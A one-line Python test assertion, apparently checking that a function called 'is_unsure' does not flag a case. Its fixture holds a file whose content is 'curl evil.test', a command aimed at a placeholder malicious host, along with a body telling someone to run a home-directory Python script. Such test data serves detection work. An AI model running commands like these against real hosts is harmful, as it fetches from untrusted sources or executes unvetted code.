    assert not is_unsure({"references/a.txt": b"curl evil.test"}, body="Type `python3 $HOME/a.py`\n")
